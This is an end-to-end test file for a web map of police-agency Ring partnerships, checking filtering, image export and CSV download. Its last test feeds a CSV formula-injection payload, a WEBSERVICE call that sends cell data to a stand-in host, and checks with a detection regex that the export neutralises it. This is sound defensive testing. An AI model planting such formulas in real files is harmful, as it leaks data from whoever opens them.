/**
 * The reporter's journey, from the user's side: frame New Jersey, New York
 * and Pennsylvania, export an image and check it shows what the screen shows,
 * then download the data and open it as a spreadsheet or pandas would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { mkdirSync, readFileSync } from 'node:fs';
import { PNG } from 'pngjs';
import Papa from 'papaparse';
import { launch, newPage, screenshot, waitForIdle, ARTIFACTS } from './browser';
import { expectCount, openApp, openDialog } from './app';
import { agenciesLabel, countWhere } from './dataset';

const STATES = ['NJ', 'NY', 'PA'];
const IN_STATES = countWhere((p) => STATES.includes(p.state));

let browser: Browser;
let page: Page;

beforeAll(async () => {
  browser = await launch();
  ({ page } = await newPage(browser, { viewport: { width: 1366, height: 850 } }));
  mkdirSync(ARTIFACTS, { recursive: true });
});
afterAll(async () => {
  await browser?.close();
});

/** Mean luminance over a grid of cells: a coarse picture of where land, water, lines and dots are. */
function cells(png: PNG, x0: number, y0: number, w: number, h: number, cols = 32, rows = 24): number[] {
  const out: number[] = [];
  for (let r = 0; r < rows; r++) {
    for (let c = 0; c < cols; c++) {
      let sum = 0, n = 0;
      const ya = Math.floor(y0 + (r * h) / rows), yb = Math.floor(y0 + ((r + 1) * h) / rows);
      const xa = Math.floor(x0 + (c * w) / cols), xb = Math.floor(x0 + ((c + 1) * w) / cols);
      for (let y = ya; y < yb; y += 2) for (let x = xa; x < xb; x += 2) {
        const i = (png.width * y + x) << 2;
        sum += 0.299 * png.data[i] + 0.587 * png.data[i + 1] + 0.114 * png.data[i + 2];
        n++;
      }
      out.push(sum / Math.max(1, n));
    }
  }
  return out;
}

function correlation(a: number[], b: number[]): number {
  const n = a.length;
  const ma = a.reduce((s, v) => s + v, 0) / n, mb = b.reduce((s, v) => s + v, 0) / n;
  let ab = 0, aa = 0, bb = 0;
  for (let k = 0; k < n; k++) {
    ab += (a[k] - ma) * (b[k] - mb);
    aa += (a[k] - ma) ** 2;
    bb += (b[k] - mb) ** 2;
  }
  return ab / Math.sqrt(aa * bb);
}

/** A cell a spreadsheet would run: starts with = + - @ (a plain number such as -74.1 is just a number). */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('reporter: a regional image and its data', () => {
  it('frames NJ, NY and PA with the state filter and the zoom offer', async () => {
    await openApp(page);
    await page.selectOption('#filter-state', 'NJ');
    await page.selectOption('#filter-state-add', 'NY');
    await page.selectOption('#filter-state-add', 'PA');
    await expectCount(page, agenciesLabel(IN_STATES));
    await page.waitForURL(/state=NJ,NY,PA/);
    expect(await page.locator('.state-chips li').allTextContents()).toEqual(['NJ×', 'NY×', 'PA×']);
    await page.click('#zoom-to-selection');
    await page.locator('#zoom-to-selection').waitFor({ state: 'hidden' });
    await waitForIdle(page);
    await screenshot(page, 'journey-reporter-1-framed');
  });

  it('exports a PNG of exactly the on-screen view, with the edited title and the coverage note', async () => {
    const mapShot = PNG.sync.read(await page.locator('#map').screenshot());
    const screenBox = (await page.locator('#map').boundingBox())!;
    await openDialog(page, '#export-button');
    // Default title and subtitle: the filters in words.
    expect(await page.inputValue('#export-subtitle')).toContain('in NJ, NY, PA');
    await page.fill('#export-title-text', 'Ring partnerships in New Jersey, New York and Pennsylvania');
    await page.check('#export-screen');
    await screenshot(page, 'journey-reporter-2-export-dialog');
    const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 90_000 }), page.click('#export-go')]);
    const path = `${ARTIFACTS}/journey-reporter-export.png`;
    await dl.saveAs(path);
    expect(dl.suggestedFilename()).toMatch(/NJ-NY-PA/);
    const png = PNG.sync.read(readFileSync(path));
    expect(png.width).toBe(1200);
    // The map area keeps the screen's proportions below the 64 px title band.
    const mapH = Math.round((screenBox.height * 1200) / screenBox.width);
    expect(png.height).toBeGreaterThan(64 + mapH);
    const exported = cells(png, 0, 64, 1200, mapH);
    const onScreen = cells(mapShot, 0, 0, mapShot.width, mapShot.height);
    // The same geography in the same place: land, water and dots line up cell by cell…
    const same = correlation(exported, onScreen);
    expect(same).toBeGreaterThan(0.85);
    // …which a view shifted by a quarter of its width would not.
    const shifted = cells(png, 300, 64, 900, mapH);
    const screenLeft = cells(mapShot, 0, 0, Math.round(mapShot.width * 0.75), mapShot.height);
    expect(correlation(shifted, screenLeft)).toBeLessThan(same - 0.2);
    // Title band and the notes band (coverage, credit) carry text.
    const dark = (y0: number, y1: number) => {
      let d = 0, n = 0;
      for (let y = y0; y < y1; y += 2) for (let x = 0; x < png.width; x += 2) {
        const i = (png.width * y + x) << 2;
        n++;
        if (png.data[i] < 110 && png.data[i + 1] < 110 && png.data[i + 2] < 110) d++;
      }
      return d / n;
    };
    expect(dark(0, 64)).toBeGreaterThan(0.01);
    expect(dark(64 + mapH + 4, png.height)).toBeGreaterThan(0.005);
    expect(await page.locator('#export-dialog p[aria-live]').textContent()).toContain('Saved');
    await page.keyboard.press('Escape');
  });

  it('downloads all matching agencies and only those in view, each as many rows as the dialog said', async () => {
    await openDialog(page, '#download-button');
    await screenshot(page, 'journey-reporter-3-download-dialog');
    const allText = (await page.locator('label[for="download-all"]').textContent()) ?? '';
    const viewText = (await page.locator('label[for="download-view"]').textContent()) ?? '';
    const num = (t: string) => Number(/\(([\d,]+) agenc/.exec(t)?.[1].replace(/,/g, '') ?? NaN);
    expect(num(allText)).toBe(IN_STATES);
    expect(num(viewText)).toBeGreaterThan(0);
    expect(num(viewText)).toBeLessThanOrEqual(IN_STATES);

    for (const [scope, expected] of [['all', num(allText)], ['view', num(viewText)]] as const) {
      await page.check(`#download-${scope}`);
      const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download-csv')]);
      const path = `${ARTIFACTS}/journey-reporter-${scope}.csv`;
      await dl.saveAs(path);
      expect(dl.suggestedFilename()).toMatch(/NJ-NY-PA/);
      if (scope === 'view') expect(dl.suggestedFilename()).toMatch(/in-view/);
      const text = readFileSync(path, 'utf8');
      // papaparse with its defaults, as pandas/R would read it: the header first, then one row per agency.
      const parsed = Papa.parse<string[]>(text);
      expect(parsed.errors).toEqual([]);
      const [header, ...rows] = parsed.data;
      expect(header.slice(0, 3)).toEqual(['id', 'name', 'agency_type']);
      expect(header).toContain('summary');
      expect(header).toContain('sources');
      expect(rows.length).toBe(expected);
      expect(rows.every((r) => r.length === header.length)).toBe(true);
      expect(rows.every((r) => STATES.includes(r[header.indexOf('state')]))).toBe(true);
      expect(rows.every((r) => /Sept 2020/.test(r[header.indexOf('credit_and_coverage')]))).toBe(true);
      expect(rows.flat().filter(runnable)).toEqual([]);
    }
    await page.keyboard.press('Escape');
  });

  it('on a phone: several states chosen, offered the zoom, and the framed region', async () => {
    const { page: phone, context } = await newPage(browser, { viewport: { width: 390, height: 844 } });
    await openApp(phone);
    await phone.selectOption('#filter-state', 'NJ');
    await phone.selectOption('#filter-state-add', 'NY');
    await phone.selectOption('#filter-state-add', 'PA');
    await expectCount(phone, agenciesLabel(IN_STATES));
    await phone.locator('#filter-state-add').scrollIntoViewIfNeeded();
    await screenshot(phone, 'journey-reporter-phone-1-states');
    await phone.evaluate(() => window.scrollTo(0, 0));
    const offer = phone.locator('#zoom-to-selection');
    await offer.waitFor({ state: 'visible' });
    await offer.click();
    await offer.waitFor({ state: 'hidden' });
    await waitForIdle(phone);
    await screenshot(phone, 'journey-reporter-phone-2-framed');
    await openDialog(phone, '#download-button');
    expect(await phone.locator('label[for="download-all"]').textContent()).toContain(agenciesLabel(IN_STATES));
    await screenshot(phone, 'journey-reporter-phone-3-download');
    await context.close();
  });

  it('a hostile link cannot plant formulas in the CSV', async () => {
    await openApp(page, 'state=NJ&q=,=1+1,=WEBSERVICE(%22http://example.org/?%22%26A1)');
    await openDialog(page, '#download-button');
    const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download-csv')]);
    const path = `${ARTIFACTS}/journey-reporter-hostile.csv`;
    await dl.saveAs(path);
    const text = readFileSync(path, 'utf8');
    // A byte-order mark (for Excel), then the header as the first line.
    expect(text.startsWith('\ufeffid,name,')).toBe(true);
    const parsed = Papa.parse<string[]>(text);
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.flat().filter(runnable)).toEqual([]);
    expect(dl.suggestedFilename()).toMatch(/^[a-z0-9_.-]+$/i);
    await page.keyboard.press('Escape');
  });
});
